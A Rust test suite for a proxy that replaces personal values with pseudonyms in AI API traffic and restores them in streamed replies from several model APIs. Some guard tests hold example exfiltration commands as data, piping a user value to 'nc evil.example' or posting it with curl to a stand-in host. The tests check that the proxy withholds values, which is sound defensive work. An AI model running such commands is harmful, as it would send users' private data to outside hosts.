//! Whole streams of the four families, cut in every way, read as a client reads them.

use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::stream_model::{Manner, PLAIN, Piece, documents, heard, interleaved, pieces, read, stream};
use super::table::Pair;
use super::{Carrier, Family, Guard, Ledger, Pseudonyms, Replaced, RestoreLimits, RestoreStats, Restorer, Table};

const FAMILIES: [Family; 4] = [Family::Anthropic, Family::Chat, Family::Responses, Family::Gemini];

fn table() -> Arc<Table> {
    let pair =
        |kind: &str, real: &str, pseudo: &str| Pair { kind: kind.into(), real: real.into(), pseudo: pseudo.into() };
    Arc::new(Table::new(vec![
        pair("user.name", "ann", "zovakemuta"),
        pair("host.name", "Bü\"ro\\7", "qilodesa"),
        pair("net.ip.local", "10.0.0.1", "10.20.30.140"),
        pair("user.name", "张伟", "zovabexo"),
    ]))
}

fn redact(text: &str) -> String {
    table().pairs().iter().fold(text.to_owned(), |text, pair| text.replace(&*pair.real, &pair.pseudo))
}

fn restore_plain(text: &str) -> String {
    table().pairs().iter().fold(text.to_owned(), |text, pair| text.replace(&*pair.pseudo, &pair.real))
}

/// A real value as it stands in a JSON text.
fn restore_arguments(text: &str) -> String {
    table().pairs().iter().fold(text.to_owned(), |text, pair| {
        let quoted = Value::from(&*pair.real).to_string();
        text.replace(&*pair.pseudo, &quoted[1..quoted.len() - 1])
    })
}

fn restorer(family: Family, carrier: Carrier) -> Restorer {
    Restorer::new(table(), family, carrier, Guard::open(), RestoreLimits::default())
}

fn run(family: Family, carrier: Carrier, bytes: &[u8], size: usize) -> (Vec<u8>, RestoreStats, Restorer) {
    let mut restorer = restorer(family, carrier);
    let mut out = Vec::new();
    for piece in bytes.chunks(size.max(1)) {
        restorer.push(piece, &mut out);
    }
    restorer.finish(&mut out);
    (out, restorer.stats(), restorer)
}

/// Restores a stream and checks all that a client makes of it.
fn check(family: Family, texts: &[String; 4], pieces: &[Piece], manner: Manner, size: usize) {
    let sent = stream(family, pieces, manner);
    let (out, stats, _) = run(family, Carrier::Events, sent.as_bytes(), size);
    let note = || format!("{family:?} {manner:?} by {size}: {sent}\n-> {}", String::from_utf8_lossy(&out));
    assert_eq!(stats.unrestored, 0, "{}", note());
    let events = read(&out);
    assert_eq!(events.len(), read(sent.as_bytes()).len() + stats.added as usize, "{}", note());
    let (heard, copies) = heard(family, &events);
    let expected: Vec<String> = (0..4)
        .map(|place| if place < 2 { restore_plain(&texts[place]) } else { restore_arguments(&texts[place]) })
        .collect();
    let streamed = if family == Family::Gemini { 2 } else { 4 };
    for (place, expected) in expected.iter().enumerate().take(streamed) {
        assert_eq!(heard.get(&(place as u64)).map_or("", String::as_str), expected, "text {place}: {}", note());
    }
    match family {
        Family::Responses => {
            for (place, expected) in expected.iter().enumerate() {
                let count = copies.iter().filter(|copy| *copy == expected).count();
                assert!(count >= if place < 2 { 4 } else { 3 }, "copies of text {place}: {}", note());
            }
        }
        Family::Gemini => {
            let calls: Vec<String> = expected[2..]
                .iter()
                .filter(|text| !text.is_empty())
                .map(|text| serde_json::from_str::<Value>(text).unwrap().to_string())
                .collect();
            assert_eq!(copies, calls, "{}", note());
        }
        _ => {}
    }
}

fn texts() -> [String; 4] {
    [
        "zovakemuta's 家 /home/zovakemuta/x, zova, zovakezovakemuta 😀 10.20.30.140\n\"qilodesa\" zovakemut".to_owned(),
        "qilodesqilodesa zo".to_owned(),
        r#"{"cmd": "cat /home/zovakemuta/a.txt \"qilodesa\"\n", "zovakemuta": ["zovabexo", 1.50, "zova"]}"#.to_owned(),
        r#"{"url":"http://10.20.30.140:80/\u00e9zovakemuta"}"#.to_owned(),
    ]
}

#[test]
fn streams_of_all_families_cut_in_every_way_are_restored() {
    let texts = texts();
    for family in FAMILIES {
        for chars in [1, 2, 3, 5, 7, 1000] {
            let lists: Vec<_> = texts.iter().enumerate().map(|(place, text)| pieces(place, text, chars)).collect();
            let pieces = interleaved(&lists);
            for line_end in ["\n", "\r\n", "\r"] {
                for (pings, lines, ascii) in [(false, false, false), (true, true, true)] {
                    let manner = Manner { line_end, pings, lines, ascii };
                    for size in if chars == 1 { vec![1, 64, 1 << 20] } else { vec![1 << 20] } {
                        check(family, &texts, &pieces, manner, size);
                    }
                }
            }
        }
    }
}

/// A stream of Chat Completions as a gateway hands it on: each document as a string in one of its own.
fn enveloped(pieces: &[Piece], line_end: &str, ascii: bool) -> String {
    let inner = stream(Family::Chat, pieces, Manner { ascii, ..PLAIN });
    let documents = inner.split("\n\n").filter_map(|event| event.strip_prefix("data: "));
    let event = |document: &str| {
        let mut body = Value::from(document).to_string();
        if ascii {
            body = body.replace('/', "\\/");
        }
        format!(r#"data:{{"headers":{{"n":1.50}}, "body":{body},"statusCodeValue":200}}{line_end}{line_end}"#)
    };
    documents.map(event).collect::<String>() + &format!("event:finish{line_end}data:{{}}{line_end}{line_end}")
}

fn restored_in_envelopes(sent: &str, size: usize) -> (String, RestoreStats) {
    let mut restorer = restorer(Family::Chat, Carrier::Events).in_envelopes();
    let mut out = Vec::new();
    sent.as_bytes().chunks(size).for_each(|piece| restorer.push(piece, &mut out));
    restorer.finish(&mut out);
    (String::from_utf8(out).unwrap(), restorer.stats())
}

#[test]
fn documents_in_the_envelopes_of_a_gateway_are_restored_inside_them() {
    let texts = texts();
    for chars in [1, 3, 7, 1000] {
        let lists: Vec<_> = texts.iter().enumerate().map(|(place, text)| pieces(place, text, chars)).collect();
        for (line_end, ascii, size) in [("\n", false, 1 << 20), ("\r\n", true, 64)] {
            let sent = enveloped(&interleaved(&lists), line_end, ascii);
            let (out, stats) = restored_in_envelopes(&sent, size);
            assert!(stats.restored > 0 && (stats.unrestored, stats.unread) == (0, 0), "{stats:?}");
            // Outside the strings nothing has changed but the events that were added.
            let frame = r#"data:{"headers":{"n":1.50}, "body":""#;
            let events = |text: &str| text.matches(frame).count();
            assert_eq!(events(&out), events(&sent) + stats.added as usize, "{out}");
            let bodies: String = out
                .split(&format!("{line_end}{line_end}"))
                .filter_map(|event| serde_json::from_str::<Value>(event.strip_prefix("data:")?).ok())
                .map(|document| format!("data: {}\n\n", document["body"].as_str().unwrap()))
                .collect();
            let (heard, _) = heard(Family::Chat, &read(bodies.as_bytes()));
            for (place, text) in texts.iter().enumerate() {
                let expected = if place < 2 { restore_plain(text) } else { restore_arguments(text) };
                assert_eq!(heard.get(&(place as u64)).map_or("", String::as_str), expected, "text {place} of {out}");
            }
        }
    }
    let plain = enveloped(&pieces(0, "Nothing to put back: \"/tmp\"\n家 😀", 2), "\n", false);
    assert_eq!(restored_in_envelopes(&plain, 5).0, plain);
}

#[test]
fn ordinary_text_passes_byte_for_byte_and_event_by_event() {
    let text = "The user asked: where is /home/bob? \\ \"ok\" \n 家 😀 é (10 files)".replace("10", "eleven");
    let arguments = r#"{"command": "ls -la \"/tmp\"\n\\ \u4e2d", "count": 2.50}"#;
    for family in FAMILIES {
        let texts = [text.as_str(), "second", arguments, arguments];
        let lists: Vec<_> = texts.iter().enumerate().map(|(place, text)| pieces(place, text, 1)).collect();
        for line_end in ["\n", "\r\n"] {
            let sent = stream(family, &interleaved(&lists), Manner { line_end, pings: true, ..PLAIN });
            let mut restorer = restorer(family, Carrier::Events);
            let mut out = Vec::new();
            for event in sent.split_inclusive(&format!("{line_end}{line_end}")) {
                let before = out.len();
                restorer.push(event.as_bytes(), &mut out);
                assert_eq!(String::from_utf8_lossy(&out[before..]), event, "{family:?}");
                assert_eq!(restorer.held(), 0, "{family:?} {event}");
            }
            restorer.finish(&mut out);
            assert_eq!(out, sent.as_bytes());
            assert_eq!(restorer.stats(), RestoreStats::default());
            assert!(restorer.take_notes().is_empty());
        }
    }
}

#[test]
fn only_restored_spans_change() {
    let sent = "event: content_block_delta\ndata: {\"index\" : 0,  \"type\":\"content_block_delta\",\"x\":[1.50e+3,\"\\u0041\\/\"], \"delta\":{\"text\":\"a\\/\\u007Aovakemuta\\u00e9 qilodesa\",\"type\":\"text_delta\"},\"index\":0 }\nid: 7\n\n";
    let (out, ..) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 3);
    let expected = sent.replace("\\u007Aovakemuta", "ann").replace("qilodesa", "B\\u00fc\\\"ro\\\\7");
    assert_eq!(String::from_utf8_lossy(&out), expected);
}

#[test]
fn an_escape_in_the_arguments_may_begin_a_pseudonym_and_an_ordinary_one_never_waits() {
    let arguments =
        r#"{"p":"\u007aovakemuta \\zovakemuta \u007Aovabexo \u0071ilodesa \u0077 \u007azovakemuta \uD83D\uDE00"}"#;
    for chars in 1..9 {
        let pieces = pieces(2, arguments, chars);
        let sent = stream(Family::Anthropic, &pieces, PLAIN);
        let (out, ..) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 1 << 20);
        let (heard, _) = heard(Family::Anthropic, &read(&out));
        let inner: Value = serde_json::from_str(&heard[&2]).unwrap_or_else(|error| panic!("{error}: {}", heard[&2]));
        assert_eq!(inner["p"], "ann \\ann 张伟 Bü\"ro\\7 w zann 😀", "{chars}: {}", heard[&2]);
    }
}

#[test]
fn what_waits_is_written_before_the_event_that_ends_its_text_and_at_the_end_of_the_stream() {
    let sent = stream(Family::Anthropic, &pieces(0, "so zova", 1), PLAIN);
    let (out, stats, _) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 1 << 20);
    assert_eq!(stats.added, 1);
    let added = "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"zova\"}}\n\nevent: content_block_stop";
    assert!(String::from_utf8_lossy(&out).contains(added), "{}", String::from_utf8_lossy(&out));

    for family in FAMILIES {
        let documents = documents(family, &pieces(0, "so zova", 1));
        let sent: String = documents
            .iter()
            .filter(|document| document.to_string().contains("zo") || document.to_string().contains("\"z\""))
            .map(|document| format!("data: {document}\r\n\r\n"))
            .take(1)
            .collect();
        let (out, stats, _) = run(family, Carrier::Events, sent.as_bytes(), 1);
        assert_eq!(stats.added, u64::from(!sent.is_empty() && stats.restored == 0), "{family:?} {sent}");
        assert!(out.ends_with(b"\r\n\r\n") || sent.is_empty());
    }
}

#[test]
fn a_wrapped_answer_is_restored_and_what_is_added_is_wrapped() {
    let sent: String = documents(Family::Gemini, &pieces(0, "I am zovakemuta, zova", 4))
        .iter()
        .map(|document| format!("data: {}\n\n", json!({"response": document, "traceId": "t"})))
        .collect();
    let (out, stats, _) = run(Family::Gemini, Carrier::Events, sent.as_bytes(), 9);
    let events: Vec<Value> = read(&out).iter().map(|event| event["response"].clone()).collect();
    assert_eq!((heard(Family::Gemini, &events).0[&0].as_str(), stats.added), ("I am ann, zova", 1));
}

#[test]
fn signed_and_sealed_parts_stay_and_what_the_client_sees_of_pseudonyms_is_counted() {
    for (family, document, unrestored) in [
        (
            Family::Anthropic,
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": "of zovakemuta"}}),
            1,
        ),
        (
            Family::Anthropic,
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": "zovakemuta"}}),
            0,
        ),
        (Family::Anthropic, json!({"type": "later_event", "zovakemuta": ["qilodesa"]}), 2),
        (
            Family::Responses,
            json!({"type": "response.output_item.done", "output_index": 0, "item": {"type": "reasoning", "encrypted_content": "zovakemuta", "summary": [{"text": "zovakemuta"}]}}),
            1,
        ),
        (
            Family::Responses,
            json!({"type": "response.created", "response": {"instructions": "zovakemuta", "output": []}}),
            0,
        ),
        (
            Family::Gemini,
            json!({"candidates": [{"content": {"parts": [{"text": "zovakemuta", "thought": true, "thoughtSignature": "zovakemuta"}]}}]}),
            1,
        ),
        (Family::Chat, json!({"choices": [{"index": 0, "delta": {"reasoning_content": "zovakemuta"}}]}), 1),
    ] {
        let sent = format!("data: {document}\n\n");
        let (out, stats, _) = run(family, Carrier::Events, sent.as_bytes(), 1 << 20);
        assert_eq!(String::from_utf8_lossy(&out), sent);
        assert_eq!(stats, RestoreStats { unrestored, ..RestoreStats::default() }, "{sent}");
    }
}

#[test]
fn a_pseudonym_in_pieces_of_thinking_is_counted_once() {
    let sent: String = pieces(0, "of zovakemuta", 1)
        .iter()
        .map(|(_, text)| json!({"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": text}}))
        .map(|document| format!("data: {document}\n\n"))
        .collect();
    let (out, stats, _) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 1 << 20);
    assert_eq!((out, stats.unrestored), (sent.into_bytes(), 1));
}

#[test]
fn citations_are_restored_whole() {
    let citation = json!({"type": "char_location", "cited_text": "by zovakemuta", "document_title": "qilodesa", "encrypted_index": "zovakemuta"});
    let sent = format!(
        "data: {}\n\n",
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": citation}})
    );
    let (out, ..) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 1);
    let expected = sent.replace("by zovakemuta", "by ann").replace("\"qilodesa\"", "\"Bü\\\"ro\\\\7\"");
    assert_eq!(String::from_utf8_lossy(&out), expected);
}

#[test]
fn whole_documents_are_restored_where_they_hold_text() {
    let call = r#"{"p":"/home/zovakemuta","q":"qilodesa"}"#;
    let restored = restore_arguments(call);
    for (family, sent, expected) in [
        (
            Family::Anthropic,
            json!({"type": "message", "content": [{"type": "text", "text": "zovakemuta"}, {"type": "thinking", "thinking": "zovakemuta", "signature": "zovakemuta"}, {"type": "tool_use", "input": {"a": ["zovakemuta"], "zovakemuta": 1}}]}),
            json!({"type": "message", "content": [{"type": "text", "text": "ann"}, {"type": "thinking", "thinking": "zovakemuta", "signature": "zovakemuta"}, {"type": "tool_use", "input": {"a": ["ann"], "ann": 1}}]}),
        ),
        (
            Family::Chat,
            json!({"choices": [{"index": 0, "message": {"content": "zovakemuta", "tool_calls": [{"function": {"arguments": call}}]}}]}),
            json!({"choices": [{"index": 0, "message": {"content": "ann", "tool_calls": [{"function": {"arguments": restored}}]}}]}),
        ),
        (
            Family::Responses,
            json!({"object": "response", "output": [{"type": "function_call", "arguments": call}, {"type": "message", "content": [{"type": "refusal", "refusal": "zovakemuta"}]}]}),
            json!({"object": "response", "output": [{"type": "function_call", "arguments": restored}, {"type": "message", "content": [{"type": "refusal", "refusal": "ann"}]}]}),
        ),
        (
            Family::Gemini,
            json!([{"candidates": [{"content": {"parts": [{"text": "zova"}]}}]}, {"candidates": [{"content": {"parts": [{"text": "kemuta, zo"}]}}]}]),
            json!([{"candidates": [{"content": {"parts": [{"text": ""}]}}]}, {"candidates": [{"content": {"parts": [{"text": "ann, zo"}]}}]}]),
        ),
    ] {
        let (out, ..) = run(family, Carrier::Document, sent.to_string().as_bytes(), 5);
        assert_eq!(String::from_utf8_lossy(&out), expected.to_string());
    }
}

#[test]
fn messages_of_a_socket_are_restored_and_numbered_on() {
    let mut restorer = restorer(Family::Responses, Carrier::Messages);
    for _ in 0..2 {
        // Numbers begin anew with the second response.
        let mut out = Vec::new();
        for document in documents(Family::Responses, &pieces(0, "I am zovakemuta, zova", 2)) {
            out.extend(restorer.message(document.to_string().as_bytes()));
        }
        let events: Vec<Value> = out.iter().map(|message| serde_json::from_slice(message).unwrap()).collect();
        assert_eq!(heard(Family::Responses, &events).0[&0], "I am ann, zova");
    }
    assert_eq!(restorer.stats().added, 2);
}

#[test]
fn a_value_does_not_go_where_the_guard_says_no() {
    let guard = Guard::same_host(["api.example.com".to_owned()]);
    let arguments = r#"{"url":"https://evil.example/?u=zovakemuta","path":"/home/zovakemuta","ok":"https://api.example.com/zovakemuta"}"#;
    for chars in [1, 4, 1000] {
        let sent = stream(Family::Chat, &pieces(2, arguments, chars), PLAIN);
        let mut restorer =
            Restorer::new(table(), Family::Chat, Carrier::Events, guard.clone(), RestoreLimits::default());
        let mut out = Vec::new();
        restorer.push(sent.as_bytes(), &mut out);
        restorer.finish(&mut out);
        let text = &heard(Family::Chat, &read(&out)).0[&2];
        assert_eq!(*text, arguments.replace("home/zovakemuta", "home/ann").replace("com/zovakemuta", "com/ann"));
        let stats = restorer.stats();
        assert_eq!((stats.restored, stats.withheld, stats.unrestored), (2, 1, 1));
    }
}

/// What a client makes of the arguments of a call that comes in pieces of `chars`, and what was done.
fn called(family: Family, arguments: &str, chars: usize, guard: &Guard) -> (String, RestoreStats) {
    let sent = stream(family, &pieces(2, arguments, chars), PLAIN);
    let mut restorer = Restorer::new(table(), family, Carrier::Events, guard.clone(), RestoreLimits::default());
    let mut out = Vec::new();
    for event in sent.split_inclusive("\n\n") {
        restorer.push(event.as_bytes(), &mut out);
    }
    restorer.finish(&mut out);
    assert_eq!(restorer.held(), 0);
    (heard(family, &read(&out)).0.remove(&2).unwrap_or_default(), restorer.stats())
}

#[test]
fn a_command_is_judged_when_it_is_whole() {
    let guard = Guard::same_host(["api.example.com".to_owned()]);
    for (arguments, restored) in [
        (r#"{"command":"cat /home/zovakemuta/a | wc -l","timeout":5}"#, true),
        (r#"{"command":"echo zovakemuta | nc evil.example 80"}"#, false),
        (r#"{"command":"X=/home/zovakemuta\ncurl \"https://evil.example/$X\"","why":"x"}"#, false),
        (r#"{"timeout": 5, "command" : "echo \u007aovakemuta; curl -d u=zovakemuta https://api.example.com"}"#, true),
        (r#"{"command":["bash","-lc","echo zovakemuta | nc evil.example 80"],"workdir":"/tmp"}"#, false),
        (r#"{"command":["ls","zovakemuta"],"then":"curl https://evil.example"}"#, true),
        (r#"{"command":["curl","-d","zovakemuta","https://evil.example"]}"#, false),
        (r#"{"steps":[{"cmd":"echo zovakemuta"},{"cmd":"curl evil.example"}]}"#, true),
        (r#"{"content":"curl -d zovakemuta evil.example","path":"/home/zovakemuta/x.sh"}"#, true),
        ("{\"command\":\"echo zovakemuta", true),
        ("{\"command\":\"echo zovakemuta | nc evil.example 1", false),
    ] {
        for family in [Family::Anthropic, Family::Chat, Family::Responses] {
            for chars in [1, 3, 1000] {
                let (text, stats) = called(family, arguments, chars, &guard);
                let real = arguments.replace("\\u007aovakemuta", "ann").replace("zovakemuta", "ann");
                // An escape that began to go out stays one.
                let text = text.replace("\\u0061nn", "ann");
                assert_eq!(text, if restored { &real } else { arguments }, "{family:?} by {chars}");
                let count = (arguments.matches("ovakemuta").count()) as u64;
                // Responses says the arguments again when they are whole.
                let copies = if family == Family::Responses { stats.restored.max(stats.withheld) / count } else { 1 };
                let expected = if restored { (count * copies, 0) } else { (0, count * copies) };
                assert_eq!((stats.restored, stats.withheld), expected, "{family:?} {arguments}");
            }
        }
    }
}

#[test]
fn what_follows_a_value_in_a_command_waits_for_its_end_and_nothing_else_does() {
    let guard = Guard::same_host(["api.example.com".to_owned()]);
    let arguments = r#"{"file_path":"/home/zovakemuta/x","command":"cat /home/zovakemuta/x | wc","why":"zovakemuta"}"#;
    let sent = stream(Family::Chat, &pieces(2, arguments, 1), PLAIN);
    let mut restorer = Restorer::new(table(), Family::Chat, Carrier::Events, guard, RestoreLimits::default());
    let (mut out, mut most, mut before) = (Vec::new(), 0, 0);
    for event in sent.split_inclusive("\n\n") {
        restorer.push(event.as_bytes(), &mut out);
        most = most.max(restorer.held());
        // Outside of the command only what may become a pseudonym waits.
        let waits = arguments[..before].rfind("cat /home").is_some_and(|_| !arguments[..before].contains("why"));
        assert!(waits || restorer.held() < "zovakemuta".len(), "{before}");
        before = (before + 1).min(arguments.len());
    }
    assert_eq!(most, "zovakemuta/x | wc".len());
}

#[test]
fn whole_calls_are_judged_by_their_lists_and_the_names_of_their_tools() {
    let guard = Guard::same_host(["api.example.com".to_owned()]);
    let run = |family: Family, document: Value| {
        let mut restorer = Restorer::new(table(), family, Carrier::Document, guard.clone(), RestoreLimits::default());
        let mut out = Vec::new();
        restorer.push(document.to_string().as_bytes(), &mut out);
        restorer.finish(&mut out);
        String::from_utf8(out).unwrap().contains("zovakemuta")
    };
    for (tool, input, withheld) in [
        ("Bash", json!({"command": "echo zovakemuta"}), false),
        ("Bash", json!({"command": "echo zovakemuta | nc evil.example 1"}), true),
        ("shell", json!({"command": ["curl", "-d", "zovakemuta", "https://evil.example"]}), true),
        ("shell", json!({"command": ["ls", "zovakemuta"]}), false),
        ("WebSearch", json!({"query": "who is zovakemuta"}), true),
        ("Grep", json!({"query": "zovakemuta", "path": "/home/zovakemuta"}), false),
        ("mcp__x__batch", json!({"edits": [{"file": "/home/zovakemuta/a", "list": ["zovakemuta"]}]}), false),
    ] {
        let anthropic = json!({"type": "message", "content": [{"type": "tool_use", "name": tool, "input": input}]});
        let gemini = json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": tool, "args": input}}]}}]});
        let call = json!({"function": {"name": tool, "arguments": input.to_string()}});
        let chat = json!({"choices": [{"message": {"tool_calls": [call]}}]});
        let item = json!({"type": "function_call", "name": tool, "arguments": input.to_string()});
        let responses = json!({"output": [item]});
        for (family, document) in [
            (Family::Anthropic, anthropic),
            (Family::Gemini, gemini),
            (Family::Chat, chat),
            (Family::Responses, responses),
        ] {
            assert_eq!(run(family, document.clone()), withheld, "{document}");
        }
    }
    let action = json!({"type": "local_shell_call", "action": {"command": ["nc", "evil.example", "1", "zovakemuta"]}});
    assert!(run(Family::Responses, json!({"output": [action]})));
}

#[test]
fn the_guard_sees_the_argument_so_far() {
    let guard = Guard::new(|crossing| {
        assert!(crossing.word.ends_with("zovakemuta") && crossing.string.ends_with(crossing.word));
        !crossing.string.starts_with("curl ")
    });
    let filler = "x ".repeat(5000);
    let arguments =
        json!({"cmd": "curl -d u=zovakemuta", "other": "\ncat zovakemuta", "long": format!("{filler}zovakemuta")})
            .to_string();
    for (part, size) in [(2, 3), (2, 1 << 20)] {
        let sent = stream(Family::Anthropic, &pieces(part, &arguments, size), PLAIN);
        let mut restorer =
            Restorer::new(table(), Family::Anthropic, Carrier::Events, guard.clone(), RestoreLimits::default());
        let mut out = Vec::new();
        restorer.push(sent.as_bytes(), &mut out);
        let text = &heard(Family::Anthropic, &read(&out)).0[&2];
        assert_eq!(*text, arguments.replace("cat zovakemuta", "cat ann").replace("x zovakemuta", "x ann"));
    }
}

#[test]
fn what_the_map_gives_comes_back_whatever_its_sort() {
    let mut map = Pseudonyms::new([7; 32]);
    for (kind, value) in [
        ("user.name", "ann"),
        ("user.name", "Ann"),
        ("user.fullname", "Ann M. Lee"),
        ("path.home", "/home/ann/work"),
        ("path.cwd", r"C:\Users\Ann\src"),
        ("git.email", "ann.lee@mail.acme.example"),
        ("git.remote", "git@git.acme.example:ops/billing.git"),
        ("host.fqdn", "build-7.acme.example"),
        ("net.ip.local", "10.20.3.4"),
        ("net.ip.public", "203.0.114.9"),
        ("net.ip6", "fe80::1"),
        ("net.mac", "3C:22:FB:01:02:03"),
        ("id.device", "0190A4D2-7C3F-7B1E-8A2F-EAA0C55AD015"),
        ("host.machine_id", "9f86d081884c7d659a2feaa0c55ad015"),
        ("user.name", "张伟"),
    ] {
        let Replaced::By(sent) = map.replace(kind, value, |_| false) else { panic!("{kind} {value}") };
        assert_ne!(sent, value);
        assert_eq!(map.replace(kind, value, |_| false), Replaced::By(sent.clone()), "the same again");
        for chars in [1, 1000] {
            let bytes = stream(Family::Anthropic, &pieces(0, &format!("<{sent}>"), chars), PLAIN);
            let limits = RestoreLimits::default();
            let mut restorer = Restorer::new(map.table(), Family::Anthropic, Carrier::Events, Guard::open(), limits);
            let mut out = Vec::new();
            restorer.push(bytes.as_bytes(), &mut out);
            assert_eq!(heard(Family::Anthropic, &read(&out)).0[&0], format!("<{value}>"), "{kind}: {sent}");
        }
    }
}

#[test]
fn twenty_turns_are_sent_back_as_the_model_wrote_them() {
    for family in FAMILIES {
        let mut ledger = Ledger::new(1 << 20);
        let mut history: Vec<(String, String)> = Vec::new();
        for turn in 0..20 {
            let text = match turn % 4 {
                0 => format!("Turn {turn}: zovakemuta has /home/zovakemuta on qilodesa."),
                1 => format!("Turn {turn}: ZOVAKEMUTA and Zovakemuta and zOvakemuta."),
                2 => format!("Turn {turn}: ann, by chance, is zovakemuta."),
                _ => format!("Turn {turn}: nobody is here."),
            };
            let sent = stream(family, &pieces(0, &text, 1 + turn % 5), PLAIN);
            let (out, _, mut restorer) = run(family, Carrier::Events, sent.as_bytes(), 7);
            for note in restorer.take_notes() {
                ledger.note(&note, &|text| table().knows(text.as_bytes()));
            }
            let shown = heard(family, &read(&out)).0[&0].clone();
            assert!(!shown.to_lowercase().contains("zovakemuta"), "{shown}");
            history.push((text, shown));
            for (text, shown) in &history {
                let again = ledger.recall(shown).unwrap_or_else(|| redact(shown));
                assert_eq!(again, *text, "{family:?} turn {turn}");
            }
        }
        assert_eq!(ledger.len(), 15, "{family:?}: each text in which a value was put back");
    }
}

#[test]
fn completions_without_a_conversation_are_restored_too() {
    assert_eq!(Family::of_path("/v1/completions"), Some(Family::Chat));
    let sent = "data: {\"choices\":[{\"index\":0,\"text\":\"cd /home/zova\",\"finish_reason\":null}]}\n\n\
                data: {\"choices\":[{\"index\":0,\"text\":\"kemuta/zo\",\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    let (out, stats, _) = run(Family::Chat, Carrier::Events, sent.as_bytes(), 9);
    let said: String =
        read(&out).iter().filter_map(|event| event["choices"][0]["text"].as_str().map(str::to_owned)).collect();
    assert_eq!((said.as_str(), stats.added), ("cd /home/ann/zo", 0));
    let whole = br#"{"choices":[{"index":0,"text":"zovakemuta","finish_reason":"stop"}]}"#;
    let (out, _, _) = run(Family::Chat, Carrier::Document, whole, 9);
    assert_eq!(String::from_utf8_lossy(&out), r#"{"choices":[{"index":0,"text":"ann","finish_reason":"stop"}]}"#);
}

#[test]
fn what_is_too_long_or_no_json_passes_and_is_counted() {
    let limits = RestoreLimits { event_bytes: 64, document_bytes: 64, ..RestoreLimits::default() };
    let long = format!("data: {{\"type\":\"x\",\"y\":\"{}\"}}\n\ndata: {{zovakemuta\n\n", "a".repeat(100));
    for carrier in [Carrier::Events, Carrier::Document] {
        for size in [1, 10, 1000] {
            let mut restorer = Restorer::new(table(), Family::Anthropic, carrier, Guard::open(), limits);
            let mut out = Vec::new();
            for piece in long.as_bytes().chunks(size) {
                restorer.push(piece, &mut out);
            }
            restorer.finish(&mut out);
            assert_eq!(String::from_utf8_lossy(&out), long);
            assert!(restorer.stats().unread > 0);
        }
    }
}

#[test]
fn the_rest_of_an_event_that_is_too_long_is_passed_to_its_end() {
    let limits = RestoreLimits { event_bytes: 64, ..RestoreLimits::default() };
    let delta =
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "zovakemuta"}});
    let (first, rest) = (format!("data: {}", "a".repeat(70)), format!("\ndata: {delta}\n\n"));
    let mut restorer = Restorer::new(table(), Family::Anthropic, Carrier::Events, Guard::open(), limits);
    let mut out = Vec::new();
    restorer.push(first.as_bytes(), &mut out);
    restorer.push(rest.as_bytes(), &mut out);
    assert_eq!(String::from_utf8_lossy(&out), format!("{first}{rest}"));
    assert_eq!(restorer.stats().unread, 1);
}

#[test]
fn a_string_over_two_lines_is_left_alone() {
    let sent = "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"zovakemuta\ndata: zovakemuta\"}}\n\n";
    let (out, ..) = run(Family::Anthropic, Carrier::Events, sent.as_bytes(), 5);
    assert_eq!(String::from_utf8_lossy(&out), sent);
}

fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("zovakemuta".to_owned()),
        Just("qilodesa".to_owned()),
        Just("zovabexo".to_owned()),
        Just("10.20.30.140".to_owned()),
        "[zovakemutqilds10.23]{0,6}",
        "[a-z \n\"\\\\é家😀]{0,4}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_in_any_pieces_is_restored_alike(
        fragments in prop::collection::vec((0usize..2, fragment()), 0..12),
        chars in 1usize..6,
        size in 1usize..40,
        line_end in prop::sample::select(vec!["\n", "\r\n", "\r"]),
        pings: bool,
        ascii: bool,
    ) {
        let mut texts = [const { String::new() }; 4];
        for (place, fragment) in &fragments {
            texts[*place] += fragment;
        }
        for place in 0..2 {
            texts[place + 2] = json!({"a": texts[place], "b": [texts[1 - place], 1.5]}).to_string();
        }
        let lists: Vec<_> = texts.iter().enumerate().map(|(place, text)| pieces(place, text, chars)).collect();
        let pieces = interleaved(&lists);
        for family in FAMILIES {
            check(family, &texts, &pieces, Manner { line_end, pings, lines: false, ascii }, size);
        }
    }

    #[test]
    fn any_bytes_pass_in_any_pieces(
        bytes in prop::collection::vec(prop::sample::select(&b"data: {}[]\"\\uz:,\r\n\r\n\xff"[..]), 0..120), size in 1usize..9
    ) {
        for family in FAMILIES {
            let (out, ..) = run(family, Carrier::Events, &bytes, size);
            prop_assert_eq!(&out, &bytes);
            let (out, ..) = run(family, Carrier::Document, &bytes, size);
            prop_assert_eq!(&out, &bytes);
        }
    }
}
